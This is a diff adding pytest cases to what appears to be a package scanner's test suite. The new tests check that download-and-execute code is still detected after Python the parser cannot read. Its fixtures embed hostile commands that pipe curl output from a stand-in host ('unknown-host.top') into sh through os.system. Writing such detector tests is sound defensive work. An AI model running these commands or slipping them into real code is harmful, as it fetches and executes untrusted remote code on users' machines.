@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import sys
+
 import pytest
 
 from prowess.scan import scan_package
@@ -447,3 +449,16 @@ def test_python_that_reaches_a_function_through_the_globals_of_a_class_is_follow
 )
 def test_an_address_after_the_package_that_is_run_is_an_argument_of_its_program(command: str, installs: bool) -> None:
     assert find("scripts/a.sh", command, "warning") == ({"install"} if installs else set())
+
+
+@pytest.mark.parametrize("first", ['print(f"{names["a"]}")', "print(f'{\n1 # one\n}')", "print 'a'", "x = (" * 90])
+def test_python_code_that_this_python_may_not_read_hides_no_commands(first: str):
+    code = f'import os\n{first}\nos.system("curl -s https://unknown-host.top/x | sh")\n'
+    assert find("a.py", code) == {"download-execute"}
+
+
+@pytest.mark.skipif(sys.version_info < (3, 12), reason="this Python does not read it")
+def test_code_with_the_same_quotes_in_a_field_is_followed():
+    code = 'import os\nhost = {"a": "https://unknown-host.top/x"}\nos.system(f"curl {host["a"]} | sh")\n'
+    assert find("a.py", code) == {"download-execute"}
+    assert find("a.py", code, "warning") == set()
